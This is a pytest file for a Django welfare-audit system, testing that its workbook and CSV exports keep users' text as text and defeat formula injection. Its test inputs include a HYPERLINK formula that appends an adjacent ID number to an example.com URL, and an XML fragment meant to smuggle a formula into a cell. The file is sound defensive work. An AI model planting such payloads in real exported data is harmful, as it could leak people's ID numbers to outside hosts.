"""Every workbook and CSV the system writes keeps a user's text as text (issue 9, formula injection).

A head of household named `=HYPERLINK(...)` must reach the office's spreadsheet as that text,
never as a live formula next to a full ID number; negative numbers stay numbers.
"""
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audits.models import RefKind
from audits.tests.helpers import ref, run
from complaints import services as complaint_services
from reports.exports import write_rollup_csv, write_rollup_xlsx, write_screening
from reports.models import METRIC_KEYS, RollupRow
from tests.factories import HouseholdFactory, MemberFactory

pytestmark = pytest.mark.django_db

PAYLOADS = ["=1+1", '=HYPERLINK("http://example.com/?id="&C4,"点击查看")', "@SUM(A1:A9)", "-2+3", "+1-1",
            # XlsxWriter writes a string shaped like its own rich-string XML without escaping it
            # (kept within the 50 characters a name may have)
            '<r></r></is></c><c><f>1+1</f></c><c><is><r></r>']


def _cells(workbook):
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def assert_text(workbook, payload: str) -> None:
    assert not [cell for cell in _cells(workbook) if cell.data_type == "f"], "a cell became a formula"
    cells = [cell for cell in _cells(workbook) if cell.value == payload]
    assert cells, f"{payload!r} is missing from the workbook"
    assert all(cell.data_type == "s" for cell in cells), f"{payload!r} is stored as {cells[0].data_type}"


def _download(response):
    assert response.status_code == 200, response.content[:500]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content


@pytest.mark.parametrize("payload", PAYLOADS)
def test_registry_export_keeps_a_formula_like_head_name_as_text(payload, users, client_for):
    HouseholdFactory(head_name=payload, region_id="220102001001")
    content = _download(client_for(users["caseworker_a"]).get(reverse("imports:export", args=["households"])))
    assert_text(load_workbook(io.BytesIO(content)), payload)


def test_findings_export_xlsx_and_csv(users, client_for):
    names = {MemberFactory(name=payload, household__region_id="220102001001").id_number: payload
             for payload in PAYLOADS}
    ref(RefKind.DEATHS, [{"id_number": number, "name": name, "death_date": dt.date(2026, 1, 5)}
                         for number, name in names.items()])
    batch = run(region="220102")
    client = client_for(users["reviewer"])
    url = reverse("audits:batch_export", args=[batch.pk])

    book = load_workbook(io.BytesIO(_download(client.get(url + "?format=xlsx"))))
    for payload in PAYLOADS:
        assert_text(book, payload)

    text = _download(client.get(url + "?format=csv")).decode("utf-8-sig")
    exported = {row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert {("'" + payload) if payload[0] in "=+-@" else payload for payload in PAYLOADS} <= exported


def test_clue_ledger_keeps_summary_and_people_as_text(users, regions, client_for):
    complaint_services.clue_create(actor=users["reviewer"], data={
        "source": "complaint", "region": regions["220102001001"], "category": "关系保",
        "summary": PAYLOADS[1], "people_involved": PAYLOADS[0]})
    content = _download(client_for(users["reviewer"]).get(reverse("complaints:export", args=["clues"])))
    book = load_workbook(io.BytesIO(content))
    assert_text(book, PAYLOADS[0])
    assert_text(book, PAYLOADS[1])


def test_screening_form_keeps_a_formula_like_head_name_as_text(regions):
    HouseholdFactory(head_name=PAYLOADS[1], region_id="220102001001")
    target = io.BytesIO()
    write_screening(region=regions["220102001"], start=dt.date(2026, 1, 1), end=dt.date(2026, 3, 31),
                    target=target, full_ids=False)
    assert_text(load_workbook(io.BytesIO(target.getvalue())), PAYLOADS[1])


def _rollup_row(name: str) -> RollupRow:
    return RollupRow(month=dt.date(2026, 3, 1), level="county", region_code="220102", region_name=name,
                     amount_total=Decimal("-2.50"), households_new=-3)


def test_rollup_xlsx_text_stays_text_and_negative_numbers_stay_numbers():
    target = io.BytesIO()
    write_rollup_xlsx([_rollup_row("=1+1")], target, month=dt.date(2026, 3, 1), level="county", unit="南关区",
                      filled_on=dt.date(2026, 4, 1))
    book = load_workbook(io.BytesIO(target.getvalue()))
    assert_text(book, "=1+1")
    ws = book.worksheets[0]
    amount = ws.cell(row=4, column=3 + METRIC_KEYS.index("amount_total"))
    new = ws.cell(row=4, column=3 + METRIC_KEYS.index("households_new"))
    assert (amount.value, amount.data_type) == (-2.5, "n")
    assert (new.value, new.data_type) == (-3, "n")


def test_rollup_csv_prefixes_formula_text_but_not_negative_numbers():
    target = io.StringIO()
    write_rollup_csv([_rollup_row("@SUM(A1)")], target)
    row = next(csv.DictReader(io.StringIO(target.getvalue())))
    assert row["region_name"] == "'@SUM(A1)"
    assert row["amount_total"] == "-2.50" and row["households_new"] == "-3"
